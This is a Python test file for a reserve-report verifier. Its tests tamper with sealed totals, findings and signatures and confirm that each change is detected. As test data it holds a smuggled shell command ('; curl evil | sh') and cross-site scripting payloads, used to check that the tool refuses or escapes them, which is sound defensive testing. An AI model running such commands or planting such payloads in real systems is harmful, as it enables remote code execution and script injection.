"""What a report's twin lets one check without the database: each thing that is changed is seen."""

from __future__ import annotations

import json
from pathlib import Path

import jsonschema
import pytest
from support.command import run_scanner
from support.signing_keys import made_key, sign
from support.twins import changed, states_of

from scanner.errors import InputError
from scanner.reports.documents.document import report_document, schema
from scanner.reports.documents.html import report_page
from scanner.reports.documents.twin import read_twin
from scanner.reports.documents.twin_checks import CheckState
from scanner.reports.tables.jsontext import pretty


def test_a_report_as_it_was_written_holds(report):
    sha256 = json.loads(report.read_text())["snapshot"]["list"]["sha256"]
    assert set(states_of(report, list_sha256=sha256).values()) == {CheckState.HOLDS}
    assert states_of(report)["list"] is CheckState.NOT_CHECKED
    assert states_of(report, list_sha256="0" * 64)["list"] is CheckState.FALSE
    seal = json.loads(report.read_text())["snapshot"]["seal"]
    assert states_of(report, seal=seal)["seal"] is CheckState.HOLDS
    assert states_of(report, seal="0" * 64)["seal"] is CheckState.FALSE


def _ether(document):
    return next(a for a in document["totals"]["assets"] if a["asset"] == "ETH")


def _more_verified(document):
    ether = _ether(document)
    kind = next(k for k, n in ether["by_evidence"].items() if int(n or 0))
    for part, name in ((ether, "verified"), (ether["by_evidence"], kind)):
        part[name] = str(int(part[name]) + 1)


def _with_new_seal(document):
    from scanner.store.writing.seal import chain_of

    record = next(r for r in document["seal_records"] if r[0] == "total" and r[1] == "ETH")
    record[3] = str(int(record[3]) + 10**18)
    document["snapshot"]["seal"] = chain_of(document["seal_records"])


CHANGES = {
    "a sealed record": (lambda d: d["seal_records"][-1].__setitem__(3, "1"), "seal"),
    "the seal": (lambda d: d["snapshot"].__setitem__("seal", "0" * 64), "seal"),
    "what is verified": (_more_verified, "totals"),
    "what is claimed": (lambda d: _ether(d).__setitem__("claimed", "1"), "totals"),
    "an asset left out": (lambda d: d["totals"]["assets"].pop(0), "totals"),
    "a record and the seal made anew": (_with_new_seal, "totals"),
    "an asset added": (
        lambda d: d["totals"]["assets"].append({**_ether(d), "asset": "BTC"}), "totals",
    ),
    "the list's hash": (lambda d: d["snapshot"]["list"].__setitem__("sha256", "0" * 64), "totals"),
    "the list's name": (lambda d: d["snapshot"]["list"].__setitem__("name", "x.csv"), "totals"),
    "a block": (lambda d: d["blocks"][0].__setitem__("hash", "0x00"), "totals"),
    "a block's time": (lambda d: d["blocks"][0].__setitem__("time", None), "totals"),
    "a record of another kind": (lambda d: d["seal_records"].append(["note", "x"]), "seal"),
    "the rule": (lambda d: d["statement_rule"].__setitem__("challenge", "x"), "question"),
    "a class of rows": (lambda d: d["rows"].__setitem__("verified", 5), "rows"),
    "a row of coverage": (lambda d: d["control"][0].__setitem__("unsigned", 9), "rows"),
    "the largest row": (
        lambda d: d["largest_verified"][0].__setitem__("amount", "9" * 77), "rows",
    ),
    "a ratio": (lambda d: _ether(d).__setitem__("reserve_ratio", "1.000000"), "ratios"),
    "a finding left out": (
        lambda d: d.__setitem__("findings", [f for f in d["findings"] if f["weight"] != "false"]),
        "answer",
    ),
    "the answer": (lambda d: d["answer"].update(status="verified", exit_status=0), "answer"),
}  # fmt: skip


@pytest.mark.parametrize("what", CHANGES)
def test_a_change_of_the_report_is_seen(report, what):
    change, check = CHANGES[what]
    assert states_of(changed(report, change))[check] is CheckState.FALSE


def test_an_answer_without_findings_is_held_to_the_sealed_totals(report):
    def whitewash(document):
        document["findings"] = []
        document["answer"].update(status="verified", exit_status=0, sentence="all verified")

    assert states_of(changed(report, whitewash))["answer"] is CheckState.FALSE


def test_what_cannot_be_checked_is_no_yes(report, planned, tmp_path):
    def without(document):
        del document["seal_records"]

    def newer(document):
        document["answer"]["mood"] = "fine"

    def hostile(document):
        document["repeat"][1] += "; curl evil | sh"

    def lighter(document):
        for finding in document["findings"]:
            finding["weight"] = "note"
        document["answer"].update(status="verified", exit_status=0)

    kept = report.read_bytes()
    for change, check in (
        (without, "seal"),
        (newer, "form"),
        (hostile, "question"),
        (lighter, "weights"),
    ):
        report.write_bytes(kept)
        assert states_of(changed(report, change))[check] is CheckState.NOT_CHECKED, check
    (tmp_path / "p.json").write_bytes(pretty(report_document(planned.store, planned.id)))
    assert states_of(tmp_path / "p.json")["seal"] is CheckState.NOT_CHECKED


@pytest.mark.parametrize(
    "data",
    [
        b"", b"[]", b"{}", b'{"format": "reserve-report", "version": 2}', b"{" * 500,
        b'{"format": "reserve-report", "version": true}',
        b'{"format": "reserve-report", "version": 1}', b"\xff\xfe", b'{"format": 1, "format": 2}',
    ],
)  # fmt: skip
def test_what_is_no_report_is_refused(tmp_path, data):
    path = tmp_path / "x.json"
    path.write_bytes(data)
    with pytest.raises(InputError):
        read_twin(path)


def _odd(document, place, value):
    *way, last = place
    for step in way:
        document = document[step]
    document[last] = value


ODD = (
    (("totals", "assets", 0, "decimals"), 10**9),
    (("totals", "assets", 0, "claimed"), "9" * 5_000),
    (("totals", "assets", 0, "claimed"), "1\n"),
    (("rows", "claims"), True),
    (("findings", 0, "weight"), "none"),
    (("largest_verified", 0, "signed_by"), None),
    (("blocks",), {}),
)


@pytest.mark.parametrize(("place", "value"), ODD)
def test_our_reading_of_the_schema_is_that_of_a_library(report, place, value):
    document = json.loads(report.read_text())
    jsonschema.Draft202012Validator(schema()).validate(document)
    _odd(document, place, value)
    report.write_bytes(pretty(document))
    with pytest.raises(InputError, match="not as a report is"):
        read_twin(report)


@pytest.mark.parametrize(
    "records",
    [[], [[]], [["x"]], [[None] * 9], [["reserve-scanner snapshot 3", "a", "b", 1, "{}"]],
     [[2**70]], [["reserve-scanner snapshot 3", "a", "b", 1, "[]", "", "", "", ""], ["chunk"]]],
)  # fmt: skip
def test_odd_records_are_false_and_no_bug(report, records):
    def change(document):
        document["seal_records"] = records

    states = states_of(changed(report, change))
    assert (states["seal"], states["totals"]) == (CheckState.FALSE, CheckState.FALSE)


# The command, with the real ssh-keygen


def _verify(report, *more):
    return run_scanner(["report", "verify", report, *more])


@pytest.fixture
def with_list(report, tmp_path):
    """The report, and a file that it is said to be of: the stub's list has no file of its own."""
    from hashlib import sha256

    from scanner.store.writing.seal import chain_of

    path = tmp_path / "list.csv"
    path.write_text("a list")
    made = sha256(path.read_bytes()).hexdigest()

    def change(document):
        old = document["snapshot"]["list"]["sha256"]
        document["snapshot"]["list"]["sha256"] = document["seal_records"][0][1] = made
        document["repeat"] = [line.replace(old, made) for line in document["repeat"]]
        document["snapshot"]["seal"] = chain_of(document["seal_records"])

    return changed(report, change), path


def test_a_signed_report_with_its_list_holds_wholly(with_list, tmp_path):
    report, listed = with_list
    key = made_key(tmp_path)
    signed = sign(report, key)
    done = _verify(report, "--list", listed)
    assert done.status == 3
    assert "anybody can make a report that adds up" in done.text
    page = tmp_path / "page.html"
    how = ("--list", listed, "--signature", signed, "--key", f"{key}.pub")
    done = _verify(report, *how, "--page", page)
    assert done.status == 0, (done.text, done.err)
    assert "It says: FOUND FALSE" in done.text
    html = page.read_text()
    found = json.loads(_verify(report, *how, "--json").out)
    assert f"key <code>{found['signature']['key']}</code>" in html
    assert found["sha256"] in html
    assert found["signature"]["key"].startswith("ED25519 SHA256:")
    assert "The program signs nothing" not in html


def test_a_signature_of_others_over_others_or_for_others_is_false(with_list, tmp_path):
    report, _ = with_list
    key, other = made_key(tmp_path), made_key(tmp_path, "other")
    page = tmp_path / "page.html"

    def state(signed, public):
        done = _verify(report, "--signature", signed, "--key", public, "--page", page)
        return done.status, "signature  it is not" in done.text or "no signer of" in done.text

    assert state(sign(report, other), f"{key}.pub") == (1, True)
    assert state(sign(report, key, "file"), f"{key}.pub") == (1, True)
    signed = sign(report, key)
    allowed = tmp_path / "allowed"
    public = Path(f"{key}.pub").read_text()
    allowed.write_text(f"me@example valid-before=20200101 {public}")
    assert state(signed, allowed) == (1, True)
    allowed.write_text(f'me@example namespaces="git" {public}')
    assert state(signed, allowed) == (1, True)
    assert not page.exists()
    allowed.write_text(f"me@example {public}")
    done = _verify(report, "--signature", signed, "--key", allowed, "--page", page)
    assert done.status == 3, done.text
    assert "by me@example, key" in page.read_text()
    report.write_bytes(report.read_bytes() + b" ")
    assert state(signed, f"{key}.pub") == (1, True)


def test_a_file_that_holds_no_signature_makes_nothing_false(with_list, tmp_path):
    report, listed = with_list
    done = _verify(report, "--signature", listed, "--key", f"{made_key(tmp_path)}.pub")
    assert (done.status, done.text) == (2, "")
    assert f"{listed.name}: holds no OpenSSH signature: 'ssh-keygen -Y sign" in done.err


def test_commands_that_are_not_those_of_the_seal_are_not_repeated(report, tmp_path):
    def hostile(document):
        document["repeat"][1] += "; curl evil | sh"

    page = tmp_path / "page.html"
    assert "scanner snapshot" in _verify(report).text
    done = _verify(changed(report, hostile), "--page", page)
    assert done.status == 3
    assert "evil" not in done.text
    assert "evil" not in page.read_text()


def test_keys_that_are_none(report, tmp_path):
    key = made_key(tmp_path)
    signed = sign(report, key)
    done = _verify(report, "--signature", signed, "--key", key)
    assert done.status == 2
    assert "a private key" in done.err
    assert _verify(report, "--signature", signed).status == 2
    assert _verify(report, "--signature", signed, "--key", "").status == 2
    assert _verify(report, "--signature", tmp_path / "none", "--key", f"{key}.pub").status == 2


def test_without_ssh_keygen_nothing_is_called_signed(report, tmp_path, monkeypatch):
    from scanner.reports.documents import twin_signature

    monkeypatch.setattr(twin_signature.shutil, "which", lambda _: None)
    for name in ("s", "k"):
        (tmp_path / name).write_text("x")
    check, signed = twin_signature.check_signature(b"", "", tmp_path / "s", tmp_path / "k")
    assert (check.state, signed) == (CheckState.NOT_CHECKED, None)


def test_the_page_of_a_hostile_twin_lets_nothing_out(report):
    def change(document):
        document["answer"]["sentence"] = "<script>alert(1)</script>"
        document["snapshot"]["publisher"] = '"><img src=x onerror=alert(1)>'

    page = report_page(read_twin(changed(report, change)).document)
    assert "<script>alert" not in page
    assert "<img" not in page
